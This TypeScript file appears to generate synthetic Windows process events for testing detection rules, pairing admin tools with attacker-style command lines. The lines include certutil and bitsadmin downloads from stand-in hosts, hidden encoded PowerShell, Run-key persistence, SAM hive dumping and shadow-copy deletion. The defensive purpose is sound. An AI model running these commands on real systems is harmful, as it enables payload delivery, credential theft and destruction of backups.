import { MICROSOFT, POWERSHELL, SYSTEM, flags, program, type Program } from './windows-program.ts'
import { documentPath, fileStem, userFolder } from './windows-world.ts'

/** What administrators do as well as intruders; some of it a rule should see. */
export const RARE_PROGRAMS: readonly Program[] = [
  program(
    `${SYSTEM}\\whoami.exe`,
    'whoami.exe',
    'whoami - displays logged on user information',
    MICROSOFT,
    (r) => r.pick(['', '/all', '/groups /fo csv']),
  ),
  program(`${SYSTEM}\\net.exe`, 'net.exe', 'Net Command', MICROSOFT, (r) =>
    r.pick([
      'view /domain',
      'start',
      'user /domain',
      'group "Domain Admins" /domain',
      `use * \\\\srv-${r.whole(100, 460)}\\c$`,
    ]),
  ),
  program(`${SYSTEM}\\certutil.exe`, 'CertUtil.exe', 'CertUtil.exe', MICROSOFT, (r) =>
    r.pick([
      `-hashfile "${documentPath(r, ['zip'])}" SHA256`,
      `-urlcache -f http://${r.publicAddress()}/${r.token(8)}.bin ` +
        `${userFolder(r)}\\${r.token(6)}.bin`,
    ]),
  ),
  program(
    POWERSHELL,
    'PowerShell.EXE',
    'Windows PowerShell',
    MICROSOFT,
    (r) =>
      `-NoProfile -ExecutionPolicy Bypass -Command "${r.pick([
        'Get-ADUser -Filter *',
        'Get-Process | Sort-Object CPU',
        `Invoke-WebRequest http://files.example/${r.token(8)} -OutFile C:\\data\\${r.token(5)}.zip`,
      ])}"`,
  ),
  program(
    POWERSHELL,
    'PowerShell.EXE',
    'Windows PowerShell',
    MICROSOFT,
    (r) => `-w hidden -enc ${Buffer.from(r.token(r.whole(30, 120)), 'utf16le').toString('base64')}`,
  ),
  program(
    `${SYSTEM}\\schtasks.exe`,
    'schtasks.exe',
    'Task Scheduler Configuration Tool',
    MICROSOFT,
    (r) =>
      `/create /tn "${fileStem(r)}" /tr "${userFolder(r)}\\${r.token(6)}.exe" /sc ` +
      `daily /st ${r.whole(10, 23)}:00`,
  ),
  program(`${SYSTEM}\\reg.exe`, 'reg.exe', 'Registry Console Tool', MICROSOFT, (r) =>
    r.pick([
      `query HKLM\\Software\\${fileStem(r)} /s`,
      `add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v ${r.token(6)} /d ` +
        `${userFolder(r)}\\${r.token(6)}.exe`,
      `save HKLM\\SAM C:\\${r.token(4)}.hiv`,
    ]),
  ),
  program(
    `${SYSTEM}\\rundll32.exe`,
    'RUNDLL32.EXE',
    'Windows host process (Rundll32)',
    MICROSOFT,
    (r) =>
      r.pick([
        'shell32.dll,Control_RunDLL ' +
          `"C:\\Windows\\System32\\${r.pick(['timedate', 'main', 'intl'])}.cpl",,0`,
        `${userFolder(r)}\\AppData\\Local\\Temp\\${r.token(7)}.dll,Start`,
      ]),
  ),
  program(
    `${SYSTEM}\\nltest.exe`,
    'nltestrk.exe',
    'Microsoft Logon Server Test Utility',
    MICROSOFT,
    () => '/domain_trusts',
  ),
  program(`${SYSTEM}\\wbem\\WMIC.exe`, 'wmic.exe', 'WMI Commandline Utility', MICROSOFT, (r) =>
    r.pick([
      'os get caption',
      `process where processid=${r.whole(400, 9000)} get commandline`,
      'product get name,version',
      `/node:${r.privateAddress()} process call create "cmd /c ver"`,
    ]),
  ),
  program(
    `${SYSTEM}\\bitsadmin.exe`,
    'bitsadmin.exe',
    'BITS administration utility',
    MICROSOFT,
    (r) =>
      `/transfer ${r.token(6)} http://files.example/${r.token(9)}.cab ` +
      `${userFolder(r)}\\${r.token(6)}.cab`,
  ),
  program(
    `${SYSTEM}\\vssadmin.exe`,
    'VSSADMIN.EXE',
    'Command Line Interface for VSS',
    MICROSOFT,
    (r) => r.pick(['list shadows', 'delete shadows /all /quiet']),
  ),
  program(
    (r) => `${userFolder(r)}\\AppData\\Local\\Temp\\${r.token(8)}.exe`,
    '-',
    '-',
    '-',
    (r) => flags(r, 1),
  ),
]
